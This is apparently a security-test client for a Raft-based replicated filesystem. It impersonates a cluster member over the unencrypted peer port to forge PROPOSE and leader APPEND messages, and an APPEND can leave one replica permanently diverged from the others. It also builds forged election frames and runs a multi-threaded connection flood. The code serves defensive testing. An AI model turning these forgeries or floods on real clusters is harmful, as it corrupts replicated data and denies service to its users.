"""An outsider's raft client: the outside tester's attacks, kept as a test
client (docs/security.md). It connects to a node's peer port in the clear,
says HELLO as a member, and sends either
  - propose: a PROPOSE of a mkdir to the leader, as a member's forwarded
    proposal would arrive (the mkdir then reaches every replica), or
  - append: an APPEND "from the leader" to a follower, carrying a mkdir at
    the index and term of the next real entry (the follower applies it and
    later skips the real entry as one it already has: that replica then
    differs from the others for good).

It also floods: flood() is the connection flood of test_peer_security
and tests/bench/flood.sh. vote() and timeout_now() build the frames of a
node outside the configuration that tries to start an election
(test_peer_security.py).

Run as a script (tests run it as uid nobody):
    peer_forge.py propose HOST PORT CLUSTER_ID FROM_ID TO_ID TERM NAME
    peer_forge.py append HOST PORT CLUSTER_ID FROM_ID TO_ID TERM NAME PREV
    peer_forge.py flood SECONDS CLUSTER_ID FROM_ID HOST:PORT...
(the last prints the number of connections made)
(ids in hex; PREV: the follower's last index, whose term is TERM) prints
"closed" if the node closed the connection without answering a frame,
"answered" if it answered the HELLO (unless peer security is on, the
forged message is then taken as the member's).

Encodings: docs/format-wire.md (frames, messages) and docs/format-db.md
("Commands").
"""

import os
import socket
import struct
import sys
import threading
import time

FRAME_MAGIC = b"QFSP"
FRAME_KIND_HELLO, FRAME_KIND_MSG = 1, 2
MSG_APPEND = 1
MSG_VOTE = 3
MSG_TIMEOUT_NOW = 9
MSG_PROPOSE = 10
ENTRY_NORMAL = 1
STORE_OP_MKDIR = 2
ROOT_INO = 1


def xxh32(data, seed=0):
    p1, p2, p3, p4, p5 = (0x9E3779B1, 0x85EBCA77, 0xC2B2AE3D, 0x27D4EB2F,
                          0x165667B1)
    m = 0xFFFFFFFF

    def rotl(x, r):
        return ((x << r) | (x >> (32 - r))) & m

    n, i = len(data), 0
    if n >= 16:
        v = [(seed + p1 + p2) & m, (seed + p2) & m, seed & m, (seed - p1) & m]
        while i + 16 <= n:
            for k in range(4):
                lane = struct.unpack_from("<I", data, i + 4 * k)[0]
                v[k] = (rotl((v[k] + lane * p2) & m, 13) * p1) & m
            i += 16
        h = (rotl(v[0], 1) + rotl(v[1], 7) + rotl(v[2], 12) +
             rotl(v[3], 18)) & m
    else:
        h = (seed + p5) & m
    h = (h + n) & m
    while i + 4 <= n:
        h = (rotl((h + struct.unpack_from("<I", data, i)[0] * p3) & m, 17)
             * p4) & m
        i += 4
    while i < n:
        h = (rotl((h + data[i] * p5) & m, 11) * p1) & m
        i += 1
    h ^= h >> 15
    h = (h * p2) & m
    h ^= h >> 13
    h = (h * p3) & m
    h ^= h >> 16
    return h


def frame(kind, body):
    return FRAME_MAGIC + struct.pack("<HHII", 2, kind, len(body),
                                     xxh32(body)) + body


def hello(cluster_id, node_id):
    return frame(FRAME_KIND_HELLO,
                 struct.pack("<QQQ", cluster_id, node_id, 0x0BAD))


def mkdir_cmd(name, origin, seq):
    """A store command: mkdir NAME in the root, owned by root, 0755."""
    nm = name.encode() + b"\0"
    now = time.time_ns()
    fixed = struct.pack("<BBBBIQQQQQQIIIIQQQIIII",
                        1, STORE_OP_MKDIR, 0, 0, 0, origin, seq, now,
                        ROOT_INO, 0, 0, 0o40755, 0, 0, 0, 0, 0, 0,
                        len(nm), 0, 0, 0)
    assert len(fixed) == 112
    return fixed + nm


def propose(from_id, to_id, term, data, ctx=1):
    header = struct.pack("<BBHQQQ", 1, MSG_PROPOSE, 0, from_id, to_id, term)
    body = struct.pack("<I", 1) + struct.pack("<QB", ctx, ENTRY_NORMAL) + \
        struct.pack("<I", len(data)) + data
    return frame(FRAME_KIND_MSG, header + body)


def append(from_id, to_id, term, prev, data):
    """APPEND of one entry at prev + 1 (term `term`) after prev (same term),
    committing it."""
    header = struct.pack("<BBHQQQ", 1, MSG_APPEND, 0, from_id, to_id, term)
    body = struct.pack("<QQQQI", prev, term, prev + 1, 0, 1) + \
        struct.pack("<QQB", term, prev + 1, ENTRY_NORMAL) + \
        struct.pack("<I", len(data)) + data
    return frame(FRAME_KIND_MSG, header + body)


def vote(from_id, to_id, term, last_index, last_term, transfer=False):
    """A VOTE request (transfer: as after a TimeoutNow, which a leader
    lease does not hold back)."""
    header = struct.pack("<BBHQQQ", 1, MSG_VOTE, 1 if transfer else 0,
                         from_id, to_id, term)
    return frame(FRAME_KIND_MSG,
                 header + struct.pack("<QQ", last_index, last_term))


def timeout_now(from_id, to_id, term):
    """TIMEOUT_NOW: "campaign now", what a leader sends its successor."""
    return frame(FRAME_KIND_MSG, struct.pack("<BBHQQQ", 1, MSG_TIMEOUT_NOW, 0,
                                             from_id, to_id, term))


def attack(kind, host, port, cluster_id, from_id, to_id, term, name,
           prev=0, source="127.0.0.9", timeout=5.0):
    """Returns "answered" or "closed"."""
    s = socket.create_connection((host, port), timeout=timeout,
                                 source_address=(source, 0))
    cmd = mkdir_cmd(name, origin=from_id ^ 0x5EED, seq=1)
    try:
        s.sendall(hello(cluster_id, from_id))
        if kind == "propose":
            s.sendall(propose(from_id, to_id, term, cmd))
        else:
            s.sendall(append(from_id, to_id, term, prev, cmd))
        got = b""
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline and len(got) < 16:
            try:
                chunk = s.recv(4096)
            except (ConnectionResetError, socket.timeout):
                break
            if not chunk:
                break
            got += chunk
        return "answered" if got.startswith(FRAME_MAGIC) else "closed"
    finally:
        s.close()


def flood(ports, seconds, cluster_id, from_id, threads=12, nice=0,
          stop=None):
    """Strangers flood the peer ports ((host, port) pairs) for `seconds`
    or until `stop` (a threading.Event) is set: attacker i connects from
    127.0.1.(i + 1) to every port as fast as it can; the even ones send a
    HELLO claiming from_id in the clear and close, the odd ones hold their
    connections (the 20 oldest closed past 40). Each attacker thread runs
    at nice `nice` (0: as the caller). Returns the connections made."""
    stop = stop or threading.Event()
    deadline = time.monotonic() + seconds
    frame = hello(cluster_id, from_id)
    counts = [0] * threads

    def attacker(i):
        if nice:
            os.setpriority(os.PRIO_PROCESS, threading.get_native_id(), nice)
        src = "127.0.1.%d" % (i + 1)
        held = []
        while not stop.is_set() and time.monotonic() < deadline:
            for host, port in ports:
                try:
                    s = socket.create_connection((host, int(port)), timeout=1,
                                                 source_address=(src, 0))
                except OSError:
                    continue
                counts[i] += 1
                if i % 2 == 0:
                    try:
                        s.sendall(frame)
                    except OSError:
                        pass
                    s.close()
                else:
                    held.append(s)
            if len(held) > 40:
                for s in held[:20]:
                    s.close()
                del held[:20]
            time.sleep(0.005)
        for s in held:
            s.close()

    ts = [threading.Thread(target=attacker, args=(i,)) for i in range(threads)]
    for t in ts:
        t.start()
    for t in ts:
        t.join()
    return sum(counts)


if __name__ == "__main__":
    if sys.argv[1] == "flood":
        secs, cid, fid = sys.argv[2:5]
        targets = [a.rsplit(":", 1) for a in sys.argv[5:]]
        print(flood(targets, float(secs), int(cid, 16), int(fid, 16)))
        sys.exit(0)
    kind, h, p, cid, f, t, term, name = sys.argv[1:9]
    prev = int(sys.argv[9]) if len(sys.argv) > 9 else 0
    print(attack(kind, h, int(p), int(cid, 16), int(f, 16), int(t, 16),
                 int(term), name, prev))
